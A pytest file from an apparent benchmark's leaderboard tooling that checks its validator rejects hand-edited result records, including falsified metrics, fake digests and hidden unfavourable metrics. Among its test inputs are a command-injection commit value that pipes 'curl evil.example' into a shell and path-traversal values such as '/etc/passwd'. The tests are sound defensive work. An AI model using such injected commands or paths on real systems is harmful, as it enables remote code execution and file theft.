"""Records edited by hand: refused, with the reason."""

from __future__ import annotations

import re

import pytest
from fixtures.runs import call
from fixtures.submissions import disguise, result

from lmrl_bench.leaderboards.collect import collect
from lmrl_bench.leaderboards.spec import read_leaderboard
from lmrl_bench.planning.cells import of_leaderboard


def test_the_honest_leaderboard_is_accepted(handed, capsys):
    options = ("--leaderboard", handed.leaderboard, "--against", handed.before)
    done = call(capsys, "results", "validate", handed.folder, *options)
    assert done.code == 0, done.err
    assert "6 records may be added to the leaderboard 'small'" in done.err
    assert call(capsys, "results", "rescore", handed.folder).code == 0


# Records that say what was not so. (command that refuses, change, reason)
RECORDS = {
    "a metric edited": ("rescore", result("chrf", 5.0), r"test: chrf is [\d.]+, but"),
    "a mean edited": ("validate", result("reward", 1e-4), r"test: reward is [\d.e-]+, but"),
    "a length edited": ("validate", result("mean_length", 0.5), "test: mean_length is"),
    "a share edited": ("validate", result("truncated_share", -0.1), "test: truncated_share is"),
    "validation edited": (
        "validate",
        lambda c: c["results"]["validation"].update(reward=0.9),
        "results.validation: reward is 0.9, but curves.jsonl ends with",
    ),
    "NaN": ("validate", result("reward", float("nan")), r"record\.json: corrupt \("),
    "infinity": ("rescore", result("chrf", float("inf")), r"record\.json: corrupt \("),
    "another schema": ("validate", lambda c: c.update(schema=2), "record schema 2"),
    "an unknown field": ("validate", lambda c: c.update(bonus=1), "bonus: Extra inputs"),
    "a field left out": ("validate", lambda c: c.pop("budget"), "budget: Field required"),
    "settings edited": (
        "validate",
        lambda c: c["config"]["budget"].update(tokens=99),
        "budget.tokens is 99 in the record, 60 today",
    ),
    "algorithm edited": (
        "validate",
        lambda c: c["algorithm"].update(learning_rate=0.5),
        "algorithm is .* in the record",
    ),
    "a digest made up": (
        "validate",
        lambda c: c.update(config_digest="e" * 64),
        "config_digest is eeeeeeeeeeee… in the record",
    ),
    "an id made up": (
        "validate",
        lambda c: c.update(id="toy/ppo/model/s1-00000000"),
        "id is toy/ppo/model/s1-00000000, where",
    ),
    "metric of another version": (
        "rescore",
        lambda c: c["task"]["metric_signatures"].update(chrf="chrf|version:9"),
        r"chrf is of another version: chrf\|version:9",
    ),
    "metric of another version, on one record": (
        "validate",
        lambda c: c["task"]["metric_signatures"].update(chrf="chrf|version:9"),
        "mixed metric signatures cannot stand in one table",
    ),
    "reward of another version": (
        "rescore",
        lambda c: c["task"].update(reward_signature="1*[chrf|version:9]"),
        "reward is of another version",
    ),
    "a changed task": (
        "validate",
        lambda c: c["task"].update(version=2),
        "task.version is 2 in the record, 1 today",
    ),
    "another state of the task": (
        "validate",
        lambda c: c["task"].update(digest="f" * 64),
        "task.digest is ffffffffffff… in the record",
    ),
    "another initial policy": (
        "validate",
        lambda c: c["policy"].update(weights_sha256="3" * 64),
        "policy.weights_sha256 is 333333333333… in the record",
    ),
    "another task's record": (
        "validate",
        lambda c: c["task"].update(name="docs-en-de"),
        "holds the record of docs-en-de/ppo/1, which belongs elsewhere",
    ),
    "budget planned otherwise": (
        "validate",
        lambda c: c["budget"].update(planned_tokens=600),
        "budget.planned_tokens is 600, the configuration's 60",
    ),
    "fewer tokens claimed": (
        "validate",
        lambda c: c["budget"].update(tokens=10),
        "budget.tokens is 10, but curves.jsonl ends at",
    ),
    "an interrupted run": (
        "validate",
        lambda c: c.update(status="interrupted"),
        "was interrupted and can go on",
    ),
    "a failure without reason": (
        "validate",
        lambda c: c.update(status="failed", results={}),
        "the run failed, but the record names no error",
    ),
    "no answers": ("validate", lambda c: c.update(samples=None), "a completed run has samples"),
    "no test": (
        "validate",
        lambda c: c["results"].pop("test"),
        "a completed run has results.test, but this record does not",
    ),
    "a path upwards": (
        "validate",
        lambda c: c["samples"].update(path="../0/samples.parquet"),
        "is a path; a record only names files in its own folder",
    ),
    "an absolute path": (
        "validate",
        lambda c: c["curves"].update(path="/etc/passwd"),
        "is a path; a record only names files in its own folder",
    ),
    "a model of someone's folder": (
        "validate",
        lambda c: c["policy"].update(model="../../secret"),
        "is a path outside the working directory",
    ),
    "a metric that looks bad left out": (
        "validate",
        lambda c: c["results"]["test"]["metrics"].pop("bleu"),
        r"test: has the metrics \['chrf'\], the task \['bleu', 'chrf'\]",
    ),
    "a metric of one's own": (
        "rescore",
        lambda c: c["results"]["test"]["metrics"].update(mine={"value": 1.0, "n": 4}),
        r"test: has the metrics .*'mine'\]",
    ),
    "a scale that is not a number": (
        "validate",
        lambda c: c["task"].update(score_normalization={"floor": "x", "ceiling": 1, "source": ""}),
        r"not a valid record \(task\.score_normalization\.floor: Input should be a valid number",
    ),
    "a scale without width": (
        "validate",
        lambda c: c["task"].update(score_normalization={"floor": 1, "ceiling": 1, "source": ""}),
        "floor and ceiling are both 1; they must differ",
    ),
    "ranked by a metric that looks better": (
        "validate",
        lambda c: c["task"].update(primary_metric="bleu"),
        "task.primary_metric is bleu in the record, chrf in the task",
    ),
    "a metric of the reward called held out": (
        "validate",
        lambda c: c["task"].update(held_out_metrics=["chrf"]),
        r"task.held_out_metrics is \['chrf'\] in the record, \['bleu'\] in the task",
    ),
    "a metric turned round": (
        "rescore",
        lambda c: c["task"].update(lower_is_better=["chrf"]),
        "the record has the direction of chrf the wrong way round",
    ),
    "the numbers without the mask left out": (
        "validate",
        lambda c: (c["algorithm"].update(name="nlpo"), c["traits"].update(filters_tokens=True)),
        r"nlpo acts through a mask, but 'test-unfiltered' is not in \['test'\]",
    ),
    "fewer iterations claimed": (
        "validate",
        lambda c: c["budget"].update(iterations=0),
        r"budget.iterations is 0, but curves.jsonl ends at \d",
    ),
    "no validation": (
        "validate",
        lambda c: c["results"].pop("validation"),
        "a completed run has results.validation, but this record does not",
    ),
    "a validation metric edited": (
        "validate",
        lambda c: c["results"]["validation"]["metrics"]["chrf"].update(value=99.0),
        r"results.validation: metric/chrf is 99, but curves.jsonl ends with",
    ),
    "a validation metric of one's own": (
        "validate",
        lambda c: c["results"]["validation"]["metrics"].update(bleu={"value": 9.0, "n": 4}),
        r"results.validation: metric/bleu is 9, but curves.jsonl ends with nan",
    ),
    "a validation share edited": (
        "validate",
        lambda c: c["results"]["validation"].update(truncated_share=0.125),
        "results.validation: truncated_share is 0.125, but curves.jsonl ends with",
    ),
    "commands instead of a commit": (
        "validate",
        lambda c: c["provenance"].update(commit="main; curl evil.example | sh #"),
        "provenance.commit: String should match pattern",
    ),
    "text instead of a flag": (
        "validate",
        lambda c: c["fidelity"].update(flags=["**checked**"]),
        "fidelity.flags.0: Input should be 'max_logprob_difference'",
    ),
    "a number that no statistics can take": (
        "validate",
        lambda c: c["results"]["test"]["metrics"]["bleu"].update(value=1e308),
        r"test: bleu is 1e\+308, outside \[0, 100\]",
    ),
    "a policy that is a text": (
        "rescore",
        lambda c: c["config"].update(policy="mine"),
        "not a valid record .*config.policy is not a mapping",
    ),
    "no configuration at all": (
        "validate",
        lambda c: c.update(config={}),
        "cannot be checked",
    ),
}


@pytest.mark.parametrize("name", RECORDS)
def test_an_edited_record(handed, refuse, name):
    command, change, reason = RECORDS[name]
    handed.edit(change)
    found = refuse(command)
    assert re.search(reason, found), found
    assert "toy/ppo/1" in found


def test_a_scale_of_the_submitters_own(handed, capsys):
    """It is shown, and no leaderboard takes it: the scale is the task's."""
    mine = {"floor": -100.0, "ceiling": -99.0, "source": "mine"}
    for place in sorted(handed.folder.glob("*/*/*")):
        handed.edit(lambda content: content["task"].update(score_normalization=mine), place)
    done = call(capsys, "results", "validate", handed.folder, "--leaderboard", handed.leaderboard)
    assert done.code == 0, done.err
    assert "ppo/1: has another score_normalization than the task; the task's counts" in done.err
    spec = read_leaderboard(handed.leaderboard)
    table = collect(spec, handed.folder.parent, of_leaderboard(spec))
    assert table.tasks[0].info.score_normalization is None


def test_an_edited_record_with_digests_that_fit(handed, refuse):
    """Another learning rate, and everything that is derived from it recomputed."""

    def change(content):
        content["config"]["algorithm"]["learning_rate"] = 0.5
        disguise(content, entry="ppo", seed=1)

    handed.edit(change)
    found = refuse("validate")
    assert "algorithm.learning_rate is 0.5 in the record, 0.01 today" in found
    assert "config.yaml says something else than the record's config" in found
